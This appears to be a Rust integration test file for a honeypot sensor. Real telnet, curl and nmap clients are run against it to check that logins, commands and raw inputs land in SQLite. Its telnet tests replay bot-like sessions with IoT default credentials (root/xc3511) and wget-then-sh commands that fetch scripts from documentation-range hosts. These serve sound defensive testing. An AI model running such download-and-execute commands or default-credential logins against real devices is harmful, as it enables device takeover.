//! The built-in plug-ins against real clients: Debian's telnet, curl and nmap, with every
//! recorded row checked in SQLite.

mod sensor_common;

use std::time::Duration;

use sensor_common::*;
use testkit::role::RoleProcess;
use testkit::sensor::{plugin, ports, telnet_any_login};

const TIMEOUT: Duration = Duration::from_secs(30);

#[test]
fn telnet_client_logs_in_and_every_command_is_recorded() {
    let telnet = require("telnet", "telnet");
    let [port] = ports();
    let sensor = RoleProcess::sensor(&bin(), &telnet_any_login("telnet", port, "telnet"));
    // Debian's telnet reading a script from a pipe, as a person (or a bot) would type it;
    // wget takes its time to fail (5 s) before the next line is read.
    let script = format!(
        "(sleep 1; echo root; sleep 0.5; echo xc3511; sleep 0.5; \
          echo 'uname -a; cat /proc/cpuinfo | head -3'; sleep 0.5; \
          echo '/bin/busybox ECCHI'; sleep 0.5; \
          echo 'cd /tmp && wget http://203.0.113.9/x.sh -O x.sh; sh x.sh'; sleep 6.5; \
          echo exit; sleep 1) | {} 127.0.0.1 {port}",
        telnet.display()
    );
    let output = sh(&script, TIMEOUT);
    for expected in [
        "login: ",
        "Password: ",
        "BusyBox",
        "Linux",
        "ECCHI: applet not found",
    ] {
        assert!(
            output.contains(expected),
            "telnet output lacks {expected:?}:\n{output}"
        );
    }
    let (status, _dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success(), "{status}");
    let conn = db(&_dir.path().join("sensor.sqlite"));
    assert_eq!(
        rows(
            &conn,
            "SELECT input_type, username, password FROM telnet WHERE eventType = 'telnet.login'"
        ),
        [["login", "root", "xc3511"]]
    );
    let commands: Vec<String> = rows(
        &conn,
        "SELECT user_input FROM telnet WHERE eventType = 'telnet.command' ORDER BY ID",
    )
    .into_iter()
    .map(|r| r[0].clone())
    .collect();
    assert_eq!(
        commands,
        [
            "uname -a",
            "cat /proc/cpuinfo",
            "head -3",
            "/bin/busybox ECCHI",
            "cd /tmp",
            "wget http://203.0.113.9/x.sh -O x.sh",
            "sh x.sh",
            "exit"
        ]
    );
    assert_eq!(
        rows(
            &conn,
            "SELECT closeReason, peerAddress, localAddress FROM sessions"
        ),
        [["logout", "127.0.0.1", "127.0.0.1"]]
    );
    // Every row carries the fixed columns.
    assert_eq!(
        count(
            &conn,
            "SELECT count(*) FROM telnet WHERE session IS NULL OR eventDateTime NOT LIKE '____-__-__T__:__:__.______Z' OR peerAddress != '127.0.0.1' OR localAddress != '127.0.0.1'"
        ),
        0
    );
}

#[test]
fn telnet_negotiation_bytes_never_reach_the_recorded_input() {
    let [port] = ports();
    let sensor = RoleProcess::sensor(&bin(), &telnet_any_login("t", port, "telnet"));
    let mut s = connect(port);
    let greeting = read_until(&mut s, b"login: ");
    assert_eq!(
        greeting.first(),
        Some(&255u8),
        "negotiation first: {greeting:?}"
    );
    // A client's answers and a window size, interleaved with the username, split oddly.
    send(&mut s, &[255, 253, 1, 255, 253, 3, b'r', b'o']); // DO ECHO, DO SGA, "ro"
    send(
        &mut s,
        &[255, 251, 31, 255, 250, 31, 0, 80, 0, 24, 255, 240],
    ); // WILL NAWS, SB NAWS 80x24 SE
    send(&mut s, b"ot\r\n");
    read_until(&mut s, b"Password: ");
    send(&mut s, b"pa\xff\xffss\r\n"); // IAC IAC is a literal 0xff data byte
    read_until(&mut s, b"# ");
    send(&mut s, b"echo hi\r\n");
    let out = read_until(&mut s, b"# ");
    assert!(String::from_utf8_lossy(&out).contains("hi"));
    drop(s);
    let (status, dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success());
    let conn = db(&dir.path().join("sensor.sqlite"));
    let login = rows(
        &conn,
        "SELECT username, hex(password) FROM telnet WHERE eventType = 'telnet.login'",
    );
    assert_eq!(login[0][0], "root");
    assert_eq!(
        login[0][1], "70615C7866667373",
        "the 0xff data byte kept exactly, as the escape \\xff (not U+FFFD)"
    );
    assert_eq!(
        count(
            &conn,
            "SELECT count(*) FROM telnet WHERE user_input = 'echo hi'"
        ),
        1
    );
}

#[test]
fn curl_requests_credentials_and_cookie_sessions_are_recorded() {
    require("curl", "curl");
    let [web, alt] = ports();
    let body = format!(
        "{}{}",
        plugin("web", "http", web, "http"),
        plugin("alt", "http", alt, "http_alt")
    );
    let sensor = RoleProcess::sensor(&bin(), &body);
    let jar = sensor.dir().join("cookies.txt");
    let jar = jar.display();
    // Two requests over one keep-alive connection, then a login over a second connection that
    // carries the cookie from the first.
    let head = sh(
        &format!("curl -s -i -c {jar} http://127.0.0.1:{web}/ http://127.0.0.1:{web}/login.html"),
        TIMEOUT,
    );
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert!(head.contains("Set-Cookie: SESSIONID="), "{head}");
    assert!(head.contains("<form"), "{head}");
    let login = sh(
        &format!(
            "curl -s -i -b {jar} -d 'username=admin&password=hunter2' http://127.0.0.1:{web}/login.cgi"
        ),
        TIMEOUT,
    );
    assert!(login.starts_with("HTTP/1.1 "), "{login}");
    let other = sh(
        &format!("curl -s -o /dev/null -w '%{{http_code}}' http://127.0.0.1:{alt}/nope"),
        TIMEOUT,
    );
    assert_eq!(other, "404");
    let (status, dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success());
    let conn = db(&dir.path().join("sensor.sqlite"));
    let requests = rows(
        &conn,
        "SELECT command, path, version, status, username, password, session FROM http ORDER BY ID",
    );
    assert_eq!(requests.len(), 3, "{requests:?}");
    assert_eq!(requests[0][..4], ["GET", "/", "HTTP/1.1", "200"]);
    assert_eq!(requests[1][..4], ["GET", "/login.html", "HTTP/1.1", "200"]);
    assert_eq!(requests[2][..2], ["POST", "/login.cgi"]);
    assert_eq!(requests[2][4..6], ["admin", "hunter2"]);
    assert!(
        requests.iter().all(|r| r[6] == requests[0][6]),
        "the cookie ties both connections into one session: {requests:?}"
    );
    let headers = rows(&conn, "SELECT headers FROM http WHERE command = 'POST'");
    assert!(headers[0][0].contains("User-Agent: curl/"), "{headers:?}");
    let sessions = rows(
        &conn,
        "SELECT session, linkedSession FROM sessions WHERE plugin = 'web' ORDER BY startTime",
    );
    assert_eq!(sessions.len(), 2);
    assert_eq!(
        sessions[1][1], sessions[0][0],
        "second connection linked to the first"
    );
    assert_eq!(
        rows(&conn, "SELECT command, path, status FROM http_alt"),
        [["GET", "/nope", "404"]]
    );
}

#[test]
fn malformed_requests_tls_hellos_and_junk_are_answered_and_recorded_raw() {
    let [port] = ports();
    let sensor = RoleProcess::sensor(&bin(), &plugin("web", "http", port, "http"));
    // A request line httparse cannot take.
    let mut s = connect(port);
    send(
        &mut s,
        b"GET / HTTP/1.1\r\nHost: x\r\nBad Header Line\r\n\r\n",
    );
    let (reply, closed) = read_to_close(&mut s);
    assert!(
        reply.starts_with(b"HTTP/1.1 400"),
        "{}",
        String::from_utf8_lossy(&reply)
    );
    assert!(closed);
    // A TLS ClientHello on the HTTP port.
    let mut s = connect(port);
    send(
        &mut s,
        &[
            0x16, 0x03, 0x01, 0x00, 0x2f, 0x01, 0x00, 0x00, 0x2b, 0x03, 0x03, 0xff, 0x00,
        ],
    );
    let (_, closed) = read_to_close(&mut s);
    assert!(closed);
    // Binary junk.
    let mut s = connect(port);
    send(&mut s, &[0u8, 1, 2, 0xfe, 0xff, b'\n']);
    let (_, closed) = read_to_close(&mut s);
    assert!(closed);
    // A body over the request limit is refused without being read to the end.
    let mut s = connect(port);
    send(
        &mut s,
        b"POST /login.cgi HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999\r\n\r\n",
    );
    let (reply, _) = read_to_close(&mut s);
    assert!(
        reply.starts_with(b"HTTP/1.1 413"),
        "{}",
        String::from_utf8_lossy(&reply)
    );
    // Longer than the first read: a 600-byte hello, and a malformed request of 5,000 bytes,
    // are recorded whole, with their length (issue 12: not only the 128 bytes read first).
    let mut hello = vec![0x16, 0x03, 0x01, 0x02, 0x53, 0x01];
    hello.resize(600, 0xab);
    let mut s = connect(port);
    send(&mut s, &hello);
    let (_, closed) = read_to_close(&mut s);
    assert!(closed);
    let mut bad = b"GET /\x00 HTTP/1.1\r\nHost: x\r\nCookie: ".to_vec();
    bad.resize(5000, b'A');
    let mut s = connect(port);
    send(&mut s, &bad);
    let (reply, _) = read_to_close(&mut s);
    assert!(reply.starts_with(b"HTTP/1.1 400"));
    let (status, dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success());
    let conn = db(&dir.path().join("sensor.sqlite"));
    let raw = rows(
        &conn,
        "SELECT reason, length, bytes FROM rawInput ORDER BY ID",
    );
    assert_eq!(raw.len(), 6, "{raw:?}");
    assert_eq!(raw[4][..2], ["not HTTP", "600"], "{:?}", raw[4]);
    assert_eq!(raw[5][1], "5000", "{:?}", raw[5]);
    assert_eq!(raw[1][0], "not HTTP");
    assert_eq!(
        raw[1][2],
        "\\x16\\x03\\x01\\x00/\\x01\\x00\\x00+\\x03\\x03\\xff\\x00"
    );
    assert_eq!(raw[2][2], "\\x00\\x01\\x02\\xfe\\xff\\n");
    assert_eq!(
        count(&conn, "SELECT count(*) FROM http WHERE status = 400"),
        2,
        "the bad header line and the 5,000-byte request"
    );
    assert_eq!(
        count(&conn, "SELECT count(*) FROM http WHERE status = 413"),
        1
    );
    assert_eq!(
        count(&conn, "SELECT count(*) FROM sessions WHERE endTime IS NULL"),
        0
    );
}

#[test]
fn nmap_connect_scan_and_service_detection() {
    let nmap = require("nmap", "nmap");
    let [t, h] = ports();
    let body = format!(
        "{}{}",
        telnet_any_login("telnet", t, "telnet"),
        plugin("web", "http", h, "http")
    );
    let sensor = RoleProcess::sensor(&bin(), &body);
    let scan = sh(
        &format!("{} -sT -Pn -n -p {t},{h} 127.0.0.1", nmap.display()),
        Duration::from_secs(60),
    );
    assert!(
        scan.contains(&format!("{t}/tcp open")) && scan.contains(&format!("{h}/tcp open")),
        "{scan}"
    );
    let scan = NmapVersions::scan(&[t, h]);
    let version = &scan.output;
    let line = |port: u16| scan.line(port);
    let (tl, hl) = (line(t), line(h));
    assert!(
        tl.contains(" open ") && tl.contains("telnet"),
        "telnet port: {tl:?}\n{version}"
    );
    assert!(
        hl.contains(" open ") && hl.contains("http"),
        "http port: {hl:?}\n{version}"
    );
    assert!(
        !version.contains("SF-Port"),
        "nmap printed an unrecognised-service fingerprint:\n{version}"
    );
    let (status, dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success());
    let conn = db(&dir.path().join("sensor.sqlite"));
    // The connect scan: sessions with zero bytes and a close reason.
    assert!(
        count(
            &conn,
            "SELECT count(*) FROM sessions WHERE bytesIn = 0 AND closeReason IS NOT NULL"
        ) >= 2,
        "{:?}",
        rows(&conn, "SELECT plugin, bytesIn, closeReason FROM sessions")
    );
    assert_eq!(
        count(
            &conn,
            "SELECT count(*) FROM sessions WHERE endTime IS NULL OR closeReason IS NULL"
        ),
        0
    );
    assert!(
        count(&conn, "SELECT count(*) FROM http") >= 1,
        "nmap's HTTP probes are recorded"
    );
}

/// The value of the `SESSIONID` cookie in a Set-Cookie header, if any.
fn session_cookie(answer: &Answer) -> Option<String> {
    let value = answer.header("Set-Cookie")?;
    let pair = value.split(';').next()?;
    pair.strip_prefix("SESSIONID=").map(str::to_owned)
}

#[test]
fn forged_or_foreign_session_cookies_are_recorded_not_adopted() {
    require("curl", "curl");
    let [web, alt] = ports();
    let body = format!(
        "{}{}",
        plugin("web", "http", web, "http"),
        plugin("alt", "http", alt, "http_alt")
    );
    let sensor = RoleProcess::sensor(&bin(), &body);
    let zero = "00000000-0000-0000-0000-000000000000";
    // 1. A made-up id of the right shape: a fresh cookie comes back, the request stays in the
    //    connection's own session.
    let forged = curl(web, "/?forged", &[&format!("Cookie: SESSIONID={zero}")]);
    assert_eq!(forged.status, 200);
    let fresh = session_cookie(&forged).expect("a fresh cookie replaces a forged one");
    assert!(!fresh.contains(zero), "{fresh}");
    // 2. A cookie the other instance issued, whole and as its bare session id.
    let alt_cookie = session_cookie(&curl(alt, "/", &[])).expect("alt sets a cookie");
    let alt_id = alt_cookie.split('.').next().unwrap().to_owned();
    for foreign in [&alt_cookie, &alt_id] {
        let answer = curl(web, "/?foreign", &[&format!("Cookie: SESSIONID={foreign}")]);
        assert!(session_cookie(&answer).is_some(), "{}", answer.headers);
    }
    // 3. A cookie this instance issued still groups two connections into one session.
    let first = curl(web, "/?mine", &[]);
    let mine = session_cookie(&first).expect("web sets a cookie");
    let again = curl(web, "/?mine-again", &[&format!("Cookie: SESSIONID={mine}")]);
    assert_eq!(
        session_cookie(&again),
        None,
        "an accepted cookie is not replaced"
    );
    let (status, dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success());
    let conn = db(&dir.path().join("sensor.sqlite"));
    assert_eq!(
        count(
            &conn,
            &format!("SELECT count(*) FROM http WHERE session = '{zero}'")
        ),
        0
    );
    assert_eq!(
        count(
            &conn,
            &format!("SELECT count(*) FROM http WHERE session = '{alt_id}'")
        ),
        0,
        "another instance's session is never adopted"
    );
    // Each rejected request is in its own connection's session, with the cookie recorded.
    let rejected = rows(
        &conn,
        "SELECT h.path, h.cookie_rejected, s.linkedSession FROM http h \
         JOIN sessions s ON s.session = h.session ORDER BY h.ID",
    );
    assert_eq!(rejected.len(), 5, "{rejected:?}");
    assert_eq!(rejected[0], ["/?forged", zero, "NULL"]);
    assert_eq!(rejected[1], ["/?foreign", alt_cookie.as_str(), "NULL"]);
    assert_eq!(rejected[2], ["/?foreign", alt_id.as_str(), "NULL"]);
    assert_eq!(rejected[3][..2], ["/?mine", "NULL"]);
    let grouped = rows(
        &conn,
        "SELECT session FROM http WHERE path IN ('/?mine', '/?mine-again') ORDER BY ID",
    );
    assert_eq!(grouped[0], grouped[1], "{grouped:?}");
    assert_eq!(
        count(
            &conn,
            "SELECT count(*) FROM http WHERE path = '/?mine-again' AND cookie_rejected IS NULL"
        ),
        1
    );
}

/// `n` bytes of a fixed pseudo-random sequence (no crate, the same on every run).
fn noise(n: usize) -> Vec<u8> {
    let mut x: u32 = 0x1234_5678;
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            (x >> 24) as u8
        })
        .collect()
}

#[test]
fn tls_hellos_and_binary_noise_on_the_telnet_port_are_recorded_raw() {
    let [port] = ports();
    let sensor = RoleProcess::sensor(&bin(), &telnet_any_login("t", port, "telnet"));
    // Python's TLS client: it sends its ClientHello and gives up on the telnet greeting.
    let tls = sh(
        &format!(
            "python3 -c \"
import socket, ssl
s = socket.create_connection(('127.0.0.1', {port}), timeout=10)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    ctx.wrap_socket(s, server_hostname='sensor.test')
    print('handshake completed')
except (ssl.SSLError, OSError) as e:
    print('refused', type(e).__name__)
\""
        ),
        TIMEOUT,
    );
    assert!(tls.starts_with("refused"), "{tls}");
    // 5,000 random bytes after the greeting.
    let junk = noise(5000);
    let mut s = connect(port);
    read_until(&mut s, b"login: ");
    send(&mut s, &junk);
    let (_, closed) = read_to_close(&mut s);
    assert!(
        closed,
        "the sensor ends a connection that does not speak telnet"
    );
    // A few junk bytes, one of them IAC.
    let mut s = connect(port);
    read_until(&mut s, b"login: ");
    send(&mut s, &[0, 1, 2, 0xfe, 0xff, b'\n']);
    let (_, closed) = read_to_close(&mut s);
    assert!(closed);
    let (status, dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success());
    let conn = db(&dir.path().join("sensor.sqlite"));
    assert_eq!(
        rows(&conn, "SELECT eventType, username, user_input FROM telnet"),
        Vec::<Vec<String>>::new(),
        "nothing that is not telnet becomes a login or a command"
    );
    let raw = rows(
        &conn,
        "SELECT reason, length, bytes FROM rawInput ORDER BY ID",
    );
    assert_eq!(raw.len(), 3, "{raw:?}");
    assert_eq!(raw[0][0], "not telnet: TLS handshake");
    assert!(raw[0][2].starts_with("\\x16\\x03\\x01"), "{raw:?}");
    assert!(raw[0][1].parse::<usize>().unwrap() > 100, "{raw:?}");
    assert_eq!(raw[1][0], "not telnet: binary data");
    assert_eq!(raw[1][1], "5000");
    // Byte-exact: the stored text is the escaped input (the first 4096 bytes, then a count).
    let kept = &junk[..4096];
    assert_eq!(
        raw[1][2],
        format!("{}...(+904 bytes)", store::escape_bytes(kept, 4096))
    );
    assert_eq!(
        raw[2],
        [
            "not telnet: binary data",
            "6",
            "\\x00\\x01\\x02\\xfe\\xff\\n"
        ]
    );
    let reasons = rows(&conn, "SELECT closeReason FROM sessions ORDER BY startTime");
    assert!(reasons.iter().all(|r| r[0] != "logout"), "{reasons:?}");
}

#[test]
fn telnet_input_that_is_not_utf8_is_recorded_byte_exact() {
    let [port] = ports();
    let sensor = RoleProcess::sensor(&bin(), &telnet_any_login("t", port, "telnet"));
    let mut s = connect(port);
    read_until(&mut s, b"login: ");
    send(&mut s, b"ro\xe9t\r\n"); // Latin-1, not UTF-8
    read_until(&mut s, b"Password: ");
    send(&mut s, b"p\\a\xff\xffss\r\n"); // a backslash, and IAC IAC: one 0xff data byte
    read_until(&mut s, b"$ ");
    send(&mut s, b"echo \xc3\xa9t\xc3\xa9\xc3\r\n"); // "\u{e9}" in UTF-8, then a lone lead byte
    read_until(&mut s, b"$ ");
    send(&mut s, b"exit\r\n");
    read_to_close(&mut s);
    let (status, dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success());
    let conn = db(&dir.path().join("sensor.sqlite"));
    assert_eq!(
        rows(
            &conn,
            "SELECT username, password FROM telnet WHERE eventType = 'telnet.login'"
        ),
        [["ro\\xe9t", "p\\\\a\\xffss"]]
    );
    assert_eq!(
        rows(
            &conn,
            "SELECT user_input FROM telnet WHERE eventType = 'telnet.command' ORDER BY ID"
        ),
        [["echo \u{e9}t\u{e9}\\xc3"], ["exit"]]
    );
}

/// Lines that arrive in the same read as `exit` are not lost: no shell reads them, so they go
/// to rawInput as sent. A username followed by Ctrl-C at the password prompt is an attempt.
#[test]
fn lines_sent_with_exit_and_a_username_before_ctrl_c_are_kept() {
    let [t] = ports();
    let sensor = RoleProcess::sensor(&bin(), &telnet_any_login("t", t, "telnet"));
    let mut s = connect(t);
    read_until(&mut s, b"login: ");
    send(&mut s, b"root\r\n");
    read_until(&mut s, b"Password: ");
    send(&mut s, b"admin\r\n");
    read_until(&mut s, b"# ");
    send(&mut s, b"exit\r\nwget http://198.51.100.9/x.sh\r\nsh x.sh");
    read_to_close(&mut s);
    // Ctrl-C at the password prompt: the username is an attempt all the same.
    let mut s = connect(t);
    read_until(&mut s, b"login: ");
    send(&mut s, b"support\r\n");
    read_until(&mut s, b"Password: ");
    send(&mut s, b"\x03");
    read_until(&mut s, b"login: ");
    drop(s);
    let (status, dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success());
    let conn = db(&dir.path().join("sensor.sqlite"));
    assert_eq!(
        rows(
            &conn,
            "SELECT username, password FROM telnet WHERE eventType = 'telnet.login' ORDER BY ID"
        ),
        [["root", "admin"], ["support", "NULL"]]
    );
    assert_eq!(
        rows(&conn, "SELECT reason, bytes FROM rawInput ORDER BY ID"),
        [[
            "sent after the session ended (logout)",
            "wget http://198.51.100.9/x.sh\\nsh x.sh"
        ]]
    );
}

#[test]
fn a_last_line_without_newline_is_recorded_as_unterminated() {
    use std::net::Shutdown;
    let [t, b] = ports();
    let body = format!(
        "{}{}",
        telnet_any_login("t", t, "telnet"),
        plugin("ftp", "banner", b, "ftp")
    );
    let sensor = RoleProcess::sensor(&bin(), &body);
    // A command typed at the shell, then the peer closes its side without Enter.
    let mut s = connect(t);
    read_until(&mut s, b"login: ");
    send(&mut s, b"root\r\n");
    read_until(&mut s, b"Password: ");
    send(&mut s, b"admin\r\n");
    read_until(&mut s, b"# ");
    send(&mut s, b"echo one\r\n");
    read_until(&mut s, b"# ");
    send(&mut s, b"uname -a; id");
    std::thread::sleep(Duration::from_millis(200));
    s.shutdown(Shutdown::Write).unwrap();
    read_to_close(&mut s);
    // A password with no newline.
    let mut s = connect(t);
    read_until(&mut s, b"login: ");
    send(&mut s, b"admin\r\n");
    read_until(&mut s, b"Password: ");
    send(&mut s, b"hunter2");
    std::thread::sleep(Duration::from_millis(200));
    s.shutdown(Shutdown::Write).unwrap();
    read_to_close(&mut s);
    // The banner plug-in: two lines, the second unterminated.
    let mut s = connect(b);
    send(&mut s, b"USER anonymous\r\nPASS guest");
    read_until(&mut s, b"ERR\r\n");
    std::thread::sleep(Duration::from_millis(200));
    s.shutdown(Shutdown::Write).unwrap();
    read_to_close(&mut s);
    let (status, dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success());
    let conn = db(&dir.path().join("sensor.sqlite"));
    assert_eq!(
        rows(
            &conn,
            "SELECT user_input, unterminated FROM telnet WHERE eventType = 'telnet.command' ORDER BY ID"
        ),
        [["echo one", "NULL"], ["uname -a", "1"], ["id", "1"]]
    );
    assert_eq!(
        rows(
            &conn,
            "SELECT username, password, unterminated FROM telnet WHERE eventType = 'telnet.login' ORDER BY ID"
        ),
        [["root", "admin", "NULL"], ["admin", "hunter2", "1"]]
    );
    assert_eq!(
        rows(&conn, "SELECT line, unterminated FROM ftp ORDER BY ID"),
        [["USER anonymous", "NULL"], ["PASS guest", "1"]]
    );
}

#[test]
fn http_credentials_keep_their_exact_bytes() {
    require("curl", "curl");
    let [port] = ports();
    let sensor = RoleProcess::sensor(&bin(), &plugin("web", "http", port, "http"));
    sh(
        &format!(
            "curl -s -o /dev/null -d 'username=ro%E9t&password=p%5Ca%FFss' http://127.0.0.1:{port}/login.cgi"
        ),
        TIMEOUT,
    );
    let (status, dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success());
    let conn = db(&dir.path().join("sensor.sqlite"));
    assert_eq!(
        rows(&conn, "SELECT username, password FROM http"),
        [["ro\\xe9t", "p\\\\a\\xffss"]]
    );
}
